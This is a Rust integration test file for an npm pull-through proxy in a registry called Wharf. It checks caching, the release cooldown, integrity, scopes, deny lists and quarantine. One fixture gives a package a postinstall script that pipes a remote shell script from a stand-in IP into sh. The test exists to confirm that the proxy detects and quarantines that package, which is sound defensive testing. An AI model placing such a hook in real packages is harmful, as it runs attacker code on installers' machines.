//! The npm pull-through proxy against a stand-in upstream registry on
//! 127.0.0.1: tarball URLs point at Wharf, tarballs are vetted on first
//! download (once, however many ask), hosted names and granted scopes win,
//! the release cooldown moves `latest`, and hostile answers are refused.
//! The real `npm install` through the proxy is in `wharf-cli/tests/npm.rs`.

mod common;

use axum::http::StatusCode;
use common::{TestApp, TestResponse};
use std::sync::Arc;
use std::time::{Duration, SystemTime};
use wharf_server::config::proxy::ProxySettings;
use wharf_testkit::fake_npm::{default_publish_time, FakeNpm};
use wharf_testkit::npm::{integrity, NpmPackage};

const ABBREVIATED: &str = "application/vnd.npm.install-v1+json";

fn hours_ago(hours: u64) -> SystemTime {
    SystemTime::now() - Duration::from_secs(hours * 3600)
}

/// An app proxying `upstream` with the default 48 h cooldown, and no page
/// caching in-process (so each request shows what the proxy decides).
async fn proxied(upstream: &FakeNpm, tweak: impl FnOnce(&mut ProxySettings)) -> TestApp {
    let mut settings = ProxySettings::new(upstream.url());
    tweak(&mut settings);
    TestApp::with_config(move |c| {
        c.simple_cache_ttl_secs = 0;
        c.proxy_npm = Some(settings);
    })
    .await
}

fn npm_error(response: &TestResponse, status: StatusCode, fragment: &str) {
    assert_eq!(response.status, status, "{}", response.text());
    let message = response.json()["error"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(message.contains(fragment), "{message:?} lacks {fragment:?}");
}

fn package(name: &str, version: &str) -> NpmPackage {
    NpmPackage::new(name, version)
}

#[tokio::test]
async fn proxied_packuments_point_at_wharf_and_tarballs_are_vetted_once() {
    let upstream = FakeNpm::start().await;
    let demo = package("demo-lib", "1.0.0").dependency("demo-dep", "^2.0.0");
    let tarball = demo.tarball();
    upstream.add_tarball(tarball.clone(), default_publish_time());
    let app = proxied(&upstream, |_| {}).await;

    let full = app.get("/npm/demo-lib", &[]).await;
    assert_eq!(full.status, StatusCode::OK, "{}", full.text());
    let packument = full.json();
    assert_eq!(packument["dist-tags"]["latest"], "1.0.0");
    let version = &packument["versions"]["1.0.0"];
    assert_eq!(version["dependencies"]["demo-dep"], "^2.0.0");
    assert_eq!(version["dist"]["integrity"], integrity(&tarball));
    let url = version["dist"]["tarball"].as_str().unwrap();
    assert!(url.ends_with("/npm/demo-lib/-/demo-lib-1.0.0.tgz"), "{url}");
    assert!(!url.contains(&upstream.url()), "{url}");
    assert!(packument["time"]["1.0.0"]
        .as_str()
        .unwrap()
        .starts_with("2020-"));

    let abbreviated = app.get("/npm/demo-lib", &[("accept", ABBREVIATED)]).await;
    assert_eq!(abbreviated.status, StatusCode::OK);
    assert!(abbreviated.json()["versions"]["1.0.0"]["dist"]["tarball"]
        .as_str()
        .unwrap()
        .ends_with("demo-lib-1.0.0.tgz"));

    let got = app.get("/npm/demo-lib/-/demo-lib-1.0.0.tgz", &[]).await;
    assert_eq!(got.status, StatusCode::OK, "{}", got.text());
    assert_eq!(got.body, tarball);
    let again = app.get("/npm/demo-lib/-/demo-lib-1.0.0.tgz", &[]).await;
    assert_eq!(again.body, tarball);
    assert_eq!(
        upstream.tarball_requests("demo-lib"),
        1,
        "stored after the first fetch"
    );

    let document = app.get("/npm/demo-lib/latest", &[]).await;
    assert_eq!(document.status, StatusCode::OK, "{}", document.text());
    assert_eq!(document.json()["version"], "1.0.0");

    let missing = app.get("/npm/no-such-package", &[]).await;
    npm_error(&missing, StatusCode::NOT_FOUND, "not in this registry");
    let no_tarball = app.get("/npm/demo-lib/-/demo-lib-9.9.9.tgz", &[]).await;
    npm_error(&no_tarball, StatusCode::NOT_FOUND, "no tarball");
}

#[tokio::test]
async fn a_hundred_concurrent_first_fetches_make_one_upstream_request() {
    let upstream = FakeNpm::start().await;
    let tarball = package("busy-lib", "1.0.0").tarball();
    upstream.add_tarball(tarball.clone(), default_publish_time());
    upstream.set_tarball_delay(Duration::from_millis(300));
    let app = Arc::new(proxied(&upstream, |_| {}).await);
    // The packument first, so every download below races for the tarball alone.
    assert_eq!(app.get("/npm/busy-lib", &[]).await.status, StatusCode::OK);

    let downloads: Vec<_> = (0..100)
        .map(|_| {
            let app = app.clone();
            tokio::spawn(async move { app.get("/npm/busy-lib/-/busy-lib-1.0.0.tgz", &[]).await })
        })
        .collect();
    for download in downloads {
        let got = download.await.unwrap();
        assert_eq!(got.status, StatusCode::OK, "{}", got.text());
        assert_eq!(got.body, tarball);
    }
    assert_eq!(upstream.tarball_requests("busy-lib"), 1);
}

#[tokio::test]
async fn the_cooldown_holds_a_fresh_version_back_and_moves_latest() {
    let upstream = FakeNpm::start().await;
    upstream.add_tarball(
        package("fresh-lib", "1.0.0").tarball(),
        default_publish_time(),
    );
    upstream.add_tarball(package("fresh-lib", "1.1.0").tarball(), hours_ago(1));
    let app = proxied(&upstream, |_| {}).await;

    let packument = app.get("/npm/fresh-lib", &[]).await.json();
    assert_eq!(packument["dist-tags"]["latest"], "1.0.0", "{packument}");
    assert!(packument["versions"].get("1.1.0").is_none());
    let held = app.get("/npm/fresh-lib/-/fresh-lib-1.1.0.tgz", &[]).await;
    npm_error(&held, StatusCode::FORBIDDEN, "cooldown is 2days");
    assert_eq!(upstream.tarball_requests("fresh-lib"), 0);

    // An administrator admits the version early; audited, and served at once.
    let admin = app.admin_token("root").await;
    let added = app
        .post_json(
            "/api/v1/admin/proxy/npm/rules",
            Some(&admin),
            r#"{"kind":"admit","spec":"fresh-lib@1.1.0","reason":"security fix"}"#,
        )
        .await;
    assert_eq!(added.status, StatusCode::CREATED, "{}", added.text());
    assert_eq!(added.json()["spec"], "fresh-lib@1.1.0");
    let packument = app.get("/npm/fresh-lib", &[]).await.json();
    assert_eq!(packument["dist-tags"]["latest"], "1.1.0");
    let bad = app
        .post_json(
            "/api/v1/admin/proxy/npm/rules",
            Some(&admin),
            r#"{"kind":"admit","spec":"fresh-lib==1.1.0","reason":"x"}"#,
        )
        .await;
    bad.assert_error(StatusCode::BAD_REQUEST, "invalid_spec", "NAME@VERSION");
    let status = app
        .get(
            "/api/v1/admin/proxy/npm",
            &[("authorization", &format!("Bearer {admin}"))],
        )
        .await;
    assert_eq!(status.status, StatusCode::OK, "{}", status.text());
    assert_eq!(status.json()["rules"][0]["kind"], "admit");
    let unknown = app
        .get(
            "/api/v1/admin/proxy/cargo",
            &[("authorization", &format!("Bearer {admin}"))],
        )
        .await;
    unknown.assert_error(StatusCode::NOT_FOUND, "not_found", "pypi and npm");
}

#[tokio::test]
async fn an_integrity_mismatch_is_refused_and_nothing_is_stored() {
    let upstream = FakeNpm::start().await;
    upstream.add_tarball(
        package("tampered", "1.0.0").tarball(),
        default_publish_time(),
    );
    upstream.corrupt("tampered", "1.0.0");
    let app = proxied(&upstream, |_| {}).await;

    let got = app.get("/npm/tampered/-/tampered-1.0.0.tgz", &[]).await;
    npm_error(&got, StatusCode::BAD_GATEWAY, "does not match the SHA-512");
    let again = app.get("/npm/tampered/-/tampered-1.0.0.tgz", &[]).await;
    npm_error(&again, StatusCode::BAD_GATEWAY, "not stored");
    assert_eq!(
        upstream.tarball_requests("tampered"),
        2,
        "a refused file is not kept"
    );
    assert_eq!(app.tmp_entries(), 0, "no staged file is left behind");
}

#[tokio::test]
async fn a_hostile_upstream_tarball_is_held_for_review() {
    let upstream = FakeNpm::start().await;
    upstream.add_tarball(
        package("nice-lib", "1.0.0").tarball(),
        default_publish_time(),
    );
    let hostile =
        package("nice-lib", "1.0.1").script("postinstall", "curl -s http://198.51.100.7/x.sh | sh");
    upstream.add_tarball(hostile.tarball(), default_publish_time());
    let app = proxied(&upstream, |_| {}).await;

    let got = app.get("/npm/nice-lib/-/nice-lib-1.0.1.tgz", &[]).await;
    npm_error(&got, StatusCode::FORBIDDEN, "code.download-exec");
    let packument = app.get("/npm/nice-lib", &[]).await.json();
    assert!(packument["versions"].get("1.0.1").is_none(), "{packument}");
    assert_eq!(packument["dist-tags"]["latest"], "1.0.0");
    let queue = app
        .get(
            "/api/v1/admin/quarantine",
            &[(
                "authorization",
                &format!("Bearer {}", app.admin_token("root").await),
            )],
        )
        .await;
    assert!(
        queue.text().contains("nice-lib-1.0.1.tgz"),
        "{}",
        queue.text()
    );
    assert!(
        queue.text().contains("code.download-exec"),
        "{}",
        queue.text()
    );
}

#[tokio::test]
async fn hosted_names_and_granted_scopes_are_never_asked_upstream() {
    let upstream = FakeNpm::start().await;
    upstream.add_tarball(
        package("@acme/tool", "9.0.0").tarball(),
        default_publish_time(),
    );
    upstream.add_tarball(package("ours", "9.0.0").tarball(), default_publish_time());
    let app = proxied(&upstream, |_| {}).await;
    app.user("alice").await;
    app.grant_namespace("alice", "@acme/*").await;
    let token = app.token("alice", "publish", &[]).await;

    // A granted scope: upstream's @acme/tool is never looked up.
    let scoped = app.get("/npm/@acme%2ftool", &[]).await;
    npm_error(&scoped, StatusCode::NOT_FOUND, "not in this registry");
    assert_eq!(upstream.packument_requests("@acme/tool"), 0);

    // A hosted name wins over upstream's.
    let ours = package("ours", "1.0.0");
    let doc = ours.publish_document(&ours.tarball());
    let published = app.send(put_json("/npm/ours", &token, &doc)).await;
    assert_eq!(
        published.status,
        StatusCode::CREATED,
        "{}",
        published.text()
    );
    let packument = app.get("/npm/ours", &[]).await.json();
    assert_eq!(packument["dist-tags"]["latest"], "1.0.0");
    assert_eq!(upstream.packument_requests("ours"), 0);

    // A name the proxy has seen upstream cannot be taken by a user here.
    upstream.add_tarball(package("theirs", "1.0.0").tarball(), default_publish_time());
    assert_eq!(app.get("/npm/theirs", &[]).await.status, StatusCode::OK);
    let theirs = package("theirs", "2.0.0");
    let doc = theirs.publish_document(&theirs.tarball());
    let refused = app.send(put_json("/npm/theirs", &token, &doc)).await;
    npm_error(
        &refused,
        StatusCode::FORBIDDEN,
        "exists on the upstream index",
    );
}

#[tokio::test]
async fn deny_lists_and_allow_lists_apply_to_packuments_and_tarballs() {
    let upstream = FakeNpm::start().await;
    for (name, version) in [
        ("evil-lib", "1.0.0"),
        ("ok-lib", "1.0.0"),
        ("ok-lib", "1.1.0"),
    ] {
        upstream.add_tarball(package(name, version).tarball(), default_publish_time());
    }
    let app = proxied(&upstream, |p| {
        p.deny = vec![
            wharf_core::proxy::Spec::parse_npm("evil-lib").unwrap(),
            wharf_core::proxy::Spec::parse_npm("ok-lib@1.1.0").unwrap(),
        ];
    })
    .await;
    let evil = app.get("/npm/evil-lib", &[]).await;
    npm_error(&evil, StatusCode::FORBIDDEN, "denied");
    assert_eq!(upstream.packument_requests("evil-lib"), 0);
    let ok = app.get("/npm/ok-lib", &[]).await.json();
    assert_eq!(ok["dist-tags"]["latest"], "1.0.0");
    let denied = app.get("/npm/ok-lib/-/ok-lib-1.1.0.tgz", &[]).await;
    npm_error(&denied, StatusCode::FORBIDDEN, "ok-lib@1.1.0");

    let only = proxied(&upstream, |p| {
        p.allow_only = vec![wharf_core::proxy::Spec::parse_npm("ok-lib").unwrap()];
    })
    .await;
    assert_eq!(only.get("/npm/ok-lib", &[]).await.status, StatusCode::OK);
    let left_out = only.get("/npm/evil-lib", &[]).await;
    npm_error(&left_out, StatusCode::NOT_FOUND, "not in this registry");
}

#[tokio::test]
async fn a_stale_packument_is_served_while_upstream_is_down() {
    let upstream = FakeNpm::start().await;
    upstream.add_tarball(package("steady", "1.0.0").tarball(), default_publish_time());
    let app = proxied(&upstream, |p| p.page_ttl = Duration::from_millis(1)).await;
    assert_eq!(app.get("/npm/steady", &[]).await.status, StatusCode::OK);
    drop(upstream);
    tokio::time::sleep(Duration::from_millis(20)).await;
    let stale = app.get("/npm/steady", &[]).await;
    assert_eq!(stale.status, StatusCode::OK, "{}", stale.text());
    assert_eq!(stale.json()["dist-tags"]["latest"], "1.0.0");
    let never_seen = app.get("/npm/never-seen", &[]).await;
    assert_eq!(
        never_seen.status,
        StatusCode::SERVICE_UNAVAILABLE,
        "{}",
        never_seen.text()
    );
    assert!(!never_seen.header("retry-after").is_empty());
}

fn put_json(
    uri: &str,
    token: &str,
    body: &serde_json::Value,
) -> axum::http::Request<axum::body::Body> {
    axum::http::Request::put(uri)
        .header("content-type", "application/json")
        .header("authorization", format!("Bearer {token}"))
        .body(axum::body::Body::from(body.to_string()))
        .unwrap()
}
